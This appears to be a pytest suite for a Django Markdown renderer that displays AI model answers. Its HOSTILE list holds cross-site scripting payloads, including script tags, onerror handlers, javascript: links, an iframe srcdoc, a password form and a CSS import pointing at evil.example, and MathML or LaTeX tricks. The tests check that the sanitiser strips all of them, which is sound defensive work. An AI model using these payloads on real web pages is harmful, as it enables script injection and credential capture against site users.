"""What a page may show of what a model wrote: Markdown's shapes, and nothing that runs, loads or leads astray."""

import re
import threading
import time
from itertools import groupby

import pytest
from django.conf import settings

from intake.markdown import BlockStream, render, render_summary, rendering
from intake.markdown.budget import TURN_SECONDS, budget, check
from intake.markdown.safety import MATH_TAGS

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "![x](https://evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    '<a href="https://evil.example" style="position:fixed">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<svg><style><img src="x" onerror="alert(1)"></style></svg>',
    '[x](https://evil.example "\\" onmouseover=\\"alert(1)")',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "<style>@import 'https://evil.example/x.css'</style>",
    '| a |\n|---|\n| <img src=x onerror="alert(1)"> |',
    '<https://evil.example/" onclick=alert(1)>',
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "$\\text{<math><maction actiontype=statusline xlink:href=javascript:alert(1)>}$",
    '\\(\\class{"><script>alert(1)</script>}{x}\\)',
    "[^1]: [x](javascript:alert(1))\n\nsee [^1]",
    "- [ ] <script>alert(1)</script>",
    "javascript:alert(1) and https://evil.example/?q=<script>",
]


SHOWN = {
    "p",
    "a",
    "pre",
    "code",
    "div",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "span",
    "button",
    "sup",
    "ul",
    "li",
}
OF_CODE = {"type", "data-action", "tabindex"}
OF_FORMULAS = {"display", "displaystyle", "mathvariant", "stretchy", "fence", "form"}


def tags_in(html: str) -> set[str]:
    return set(re.findall(r"<([a-z0-9]+)", html))


def attributes_in(html: str) -> set[str]:
    return {name for tag in re.findall(r"<[a-z][^>]*>", html) for name in re.findall(r'\s([\w-]+)="', tag)}


def text_of(html: str) -> str:
    return re.sub(r"<[^>]*>", "", html)


def addresses_in(html: str) -> set[str]:
    return {match[1] for tag in re.findall(r"<[a-z][^>]*>", html) if (match := re.search(r'\shref="([^"]*)"', tag))}


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("renderer", [render, render_summary])
def test_nothing_in_an_answer_runs_or_loads(renderer, hostile):
    html = renderer(hostile)
    assert tags_in(html) <= SHOWN | MATH_TAGS
    assert attributes_in(html) <= {"href", "rel", "target", "title", "class", "dir", *OF_CODE, *OF_FORMULAS}
    for address in addresses_in(html):
        assert address.startswith("https://evil.example")


def test_an_answer_is_made_anew_each_time_and_kept_nowhere():
    first, second = render("A *secret*"), render("A *secret*")
    assert first == second == '<p dir="auto">A <em>secret</em></p>'
    assert first is not second


def test_a_picture_becomes_a_link_that_loads_nothing():
    html = render("![a chart](https://example.com/x.png)")
    assert "<img" not in html
    assert 'href="https://example.com/x.png"' in html
    assert 'target="_blank"' in html
    assert text_of(html) == "Image not loaded · example.com · a chart Load"


def test_a_picture_names_the_host_that_its_link_leads_to():
    html = render("![a chart](https://good.example@evil.example:8443/x.png)")
    assert '<span class="picture-host">evil.example</span>' in html
    for address in ("/x.png", "data:image/png;base64,AAAA", "http://[x", "mailto:a@example.com"):
        assert "picture" not in render(f"![a chart]({address})")


def test_a_summary_names_a_picture_by_its_words_alone():
    assert "Image not loaded" not in render_summary("![a chart](https://example.com/x.png)")


def test_a_picture_in_a_link_leaves_its_words_in_the_link():
    html = render("[![a chart](https://example.com/x.png)](https://example.com/)")
    assert html.count("<a ") == 1
    assert ">a chart</a>" in html


def test_links_tell_the_other_site_nothing_and_open_beside_the_chat():
    html = render("[there](https://example.com/)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_links_to_this_site_open_in_place():
    html = render("[Dinner](/c/0190/?turn=2#turn-2)")
    assert 'href="/c/0190/?turn=2#turn-2"' in html
    assert "target" not in html


def test_the_usual_shapes_of_an_answer_are_there():
    html = render(
        "# One\n\n- a\n  1. b\n\n> said\n\n`x` **y** *z* ~~w~~\n\n```python\nprint(1 < 2)\n```\n\n|a|b|\n|-|-:|\n|1|2|"
    )
    for shape in [
        '<h3 dir="auto">One</h3>',
        "<li>b</li>",
        '<blockquote dir="auto">',
        "<code>x</code>",
        "<strong>y</strong>",
        "<em>z</em>",
        "<s>w</s>",
        '<code class="language-python"><span class="hl-nb">print</span>',
        '<div class="table-scroll" dir="auto" tabindex="0"><table>',
        '<td class="align-right short">2</td>',
    ]:
        assert shape in html


def test_headings_stay_below_those_of_the_page():
    assert [render("#" * level + " x").split(" ")[0] for level in range(1, 7)] == [
        "<h3",
        "<h4",
        "<h5",
        "<h6",
        "<h6",
        "<h6",
    ]


def test_a_summary_links_to_pages_of_this_site():
    html = render_summary("Found 2 turns: [Dinner](/c/0190/?turn=2#turn-2), [Trip](/c/0191/#turn-1)")
    assert html.count("<a href=") == 2
    assert 'href="/c/0190/?turn=2#turn-2"' in html


@pytest.mark.parametrize(
    "elsewhere", ["https://evil.example/", "//evil.example/", "/\\evil.example/", "mailto:a@b.c", "c/1/"]
)
def test_a_summary_links_nowhere_else(elsewhere):
    html = render_summary(f"[x]({elsewhere})")
    address = re.search(r'href="([^"]*)"', html)
    assert address is None or address[1].startswith("/%5C")


def test_a_summary_is_one_line_without_blocks():
    assert tags_in(render_summary("# Big\n\n- item\n\n```\ncode\n```")) <= {"code", "br"}


@pytest.mark.parametrize("cited", [None, {"1": "/sources/1/"}])
def test_an_answer_of_nothing_but_brackets_is_rendered(cited):
    """A model that repeats itself may write one; with links looked for, this takes minutes."""
    html = render("[" * 90_000 + " and **bold**", cited)
    assert "<strong>bold</strong>" in html


def test_the_short_way_for_a_summary_of_words_leads_to_the_same_place(monkeypatch):
    characters = [chr(code) for code in range(0x20, 0x600)]
    texts = [text for it in characters for text in (f"{it}a", f"a{it} b{it}{it}c{it}", f"Found 2: {it}1.{it}")]
    quickly = [render_summary(text) for text in texts]
    monkeypatch.setattr(rendering, "_WORDS", re.compile("(?!)"))
    assert quickly == [render_summary(text) for text in texts]


def test_plain_words_are_left_alone():
    assert render("2 < 3 & 4 > 1, she said “no”") == '<p dir="auto">2 &lt; 3 &amp; 4 &gt; 1, she said “no”</p>'


@pytest.mark.parametrize(
    "formula",
    [
        "$E = mc^2$",
        "\\(E = mc^2\\)",
        "$$\nE = mc^2\n$$",
        "\\[\nE = mc^2\n\\]",
        "\\begin{equation}E = mc^2\\end{equation}",
    ],
)
def test_a_formula_is_drawn_as_mathml(formula):
    html = render(f"So:\n\n{formula}\n\nThat is it.")
    assert "<msup><mi>c</mi><mn>2</mn></msup>" in html
    assert "$" not in html


@pytest.mark.parametrize("prices", ["It costs $5 and $10.", "between $1,000 and $2,500 a month", "US$ 5 or $6"])
def test_prices_are_no_formulas(prices):
    assert render(prices) == f'<p dir="auto">{prices}</p>'


@pytest.mark.parametrize("broken", ["\\frac{1}{", "\\left( x", "{" * 60 + "x" + "}" * 60])
def test_a_formula_that_cannot_be_drawn_is_shown_as_it_was_written(broken):
    html = render(f"$${broken}$$")
    assert "formula-source" in html
    assert "<math" not in html


def test_numbers_and_charges_of_chemistry_stand_below_and_above():
    html = render(r"$\ce{SO4^2- + H2O -> }$")
    assert "<msubsup>" in html and "<msub>" in html and "formula-source" not in html


def test_the_font_of_formulas_is_a_subset():
    assert (settings.BASE_DIR / "intake/static/intake/fonts/stix-two-math.woff2").stat().st_size <= 80_000


def test_lines_of_a_formula_are_lined_up():
    html = render("$$\\begin{aligned}a &= b\\\\ c &= d\\end{aligned}$$")
    assert html.count("<mtr>") == 2
    assert "&amp;" not in html


def test_tasks_notes_and_bare_addresses_are_shown_as_such():
    html = render("- [ ] open\n- [x] done\n\nSee https://example.com/x and note[^1].\n\n[^1]: The note.")
    assert '<li class="task">☐ open</li>' in html
    assert "☑ done" in html
    assert '<a href="https://example.com/x"' in html
    assert '<sup class="footnote-ref">1</sup>' in html
    assert "The note." in html


@pytest.mark.parametrize(
    ("info", "source", "is_shown"),
    [
        ("mermaid", "flowchart LR", True),
        ("HTML", "<p>", True),
        ("svg", "<svg/>", True),
        ("xml", "\n<svg xmlns='x'/>", True),
        ("xml", "<note/>", False),
        ("python", "<svg>", False),
        ("", "<svg>", False),
    ],
)
def test_code_that_shows_something_has_a_preview(info, source, is_shown):
    assert ('data-action="preview-code">Preview<' in render(f"```{info}\n{source}\n```")) is is_shown


def test_code_says_its_language_and_can_be_copied_and_downloaded():
    html = render("```mermaid\ngraph TD; A-->B\n```")
    assert '<span class="code-language">mermaid</span>' in html
    assert 'data-action="copy-code"' in html
    assert 'data-action="download-code"' in html
    assert "graph TD; A--&gt;B" in html


@pytest.mark.parametrize(
    "text",
    [
        "echo $HOME/$USER",
        "US$680 in R$ are R$3400",
        "R$680 in US$",
        "$MSFT/$GOOG and $AAPL, $TSLA",
        "A$5,A$6",
        "cost$5$more",
        "in $PATH$1",
    ],
)
def test_dollars_beside_letters_and_digits_are_no_formulas(text):
    assert render(text) == f'<p dir="auto">{text}</p>'


@pytest.mark.parametrize("text", ["设$x$为质数", "($x$)", "so $$x$$.", "“$x$”", "a \\$ b $x$"])
def test_a_formula_may_stand_beside_signs_and_scripts_without_blanks(text):
    assert "<math" in render(text)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a<br>b<br/>c", "a<br>\nb<br>\nc"),
        ("H<sub>2</sub>O", "H<sub>2</sub>O"),
        ("x<sup>**2**</sup>", "x<sup><strong>2</strong></sup>"),
        ("<kbd>Ctrl</kbd>+<KBD>C</KBD>", "<kbd>Ctrl</kbd>+<kbd>C</kbd>"),
        ("<mark>a</mark> ==b== ==c d==", "<mark>a</mark> <mark>b</mark> <mark>c d</mark>"),
        ("a==b or c==d", "a==b or c==d"),
        ("x == y and z == w", "x == y and z == w"),
        ("=== a ===", "=== a ==="),
        ("<sup>without end", "&lt;sup&gt;without end"),
        ("<sup onclick=x>a</sup>", "&lt;sup onclick=x&gt;a&lt;/sup&gt;"),
        ("`<br>` and `==x==`", "<code>&lt;br&gt;</code> and <code>==x==</code>"),
        ("</kbd> alone", "&lt;/kbd&gt; alone"),
    ],
)
def test_small_elements_and_marks_are_drawn(text, html):
    assert render(text) == f'<p dir="auto">{html}</p>'


def test_a_cell_of_a_table_may_have_several_lines():
    assert '<td class="short">a<br>\nb</td>' in render("| x |\n|---|\n| a<br>b |")


def test_short_cells_stay_whole_and_long_ones_break():
    html = render("| when | what |\n|:-:|---|\n| 3 May 2026 | as many words as it takes to fill a line |")
    assert '<td class="align-center short">3 May 2026</td>' in html
    assert "<td>as many words" in html


def test_folded_details_have_their_summary_and_blocks():
    html = render("<details>\n<summary>More *here*</summary>\n\n- a\n\n```py\nx\n```\n</details>\n\nafter")
    assert '<details dir="auto">\n<summary>More <em>here</em></summary>' in html
    assert "<li>a</li>" in html
    assert html.endswith('</details><p dir="auto">after</p>')


@pytest.mark.parametrize("tag", ["think", "thinking"])
def test_what_a_model_thinks_within_its_answer_is_folded(tag):
    html = render(f"<{tag}>\nI *think*\n</{tag}>\n\nThe answer")
    assert html.startswith('<details class="thought" dir="auto">\n<summary>Thought</summary>')
    assert "I <em>think</em>" in html
    assert html.endswith('</details><p dir="auto">The answer</p>')
    assert render(f"<{tag}>\n\n</{tag}>\n\nThe answer") == '<p dir="auto">The answer</p>'
    # While it is written there is no end yet.
    assert "<summary>Thought</summary>" in render(f"<{tag}>\nI think")


def test_a_block_that_is_folded_in_many_is_text_from_some_depth_on():
    assert render("<details>\n" * 40).count("<details") == 4


@pytest.mark.parametrize("kind", ["NOTE", "tip", "Important", "WARNING", "CAUTION"])
def test_a_callout_has_its_kind_as_a_heading(kind):
    html = render(f"> [!{kind}]\n> said *so*")
    assert html.startswith(f'<blockquote class="callout callout-{kind.lower()}" dir="auto">')
    assert f'<p class="callout-title" dir="auto">{kind.capitalize()}</p><p>said <em>so</em></p>' in html


def test_a_quotation_that_only_looks_like_a_callout_is_one():
    assert "callout" not in render("> [!NOTE] a word\n\n> [!OTHER]\n> x")


def test_a_stream_of_folded_thoughts_ends_like_the_whole():
    text = "<think>\nfirst\n\nsecond\n</think>\n\nThe **answer**\n\n> [!NOTE]\n> x\n\n<details>\n<summary>s</summary>\nt\n</details>\n\nend"
    stream, shown = BlockStream(iter(range(10**6)).__next__), []
    for character in text:
        stream.feed(character)
        if changed := stream.changes():
            shown[changed.start :] = changed.html
    if changed := stream.finish():
        shown[changed.start :] = changed.html
    assert "".join(shown) == render(text)


@pytest.mark.medium
@pytest.mark.parametrize("piece", ["<sup>", "==a ", "<details>\n", "<think>\n", "$a ", "\\$", "> [!NOTE]\n\n", "<br>"])
def test_elements_are_drawn_in_time_that_grows_with_the_text(piece):
    def takes(count):
        started = time.process_time()
        render(piece * count)
        return time.process_time() - started

    takes(10)
    assert takes(4_000) < 12 * min(takes(1_000), takes(1_000)) + 0.5


def test_texts_that_take_long_are_drawn_in_turns():
    drawn = []

    def draw(name):
        begun = time.thread_time()
        with budget():
            while (taken := time.thread_time() - begun) < 6 * TURN_SECONDS:
                check()
                if taken > TURN_SECONDS:
                    drawn.append(name)

    threads = [threading.Thread(target=draw, args=[name]) for name in "ab"]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert 3 < len([*groupby(drawn)]) < 16
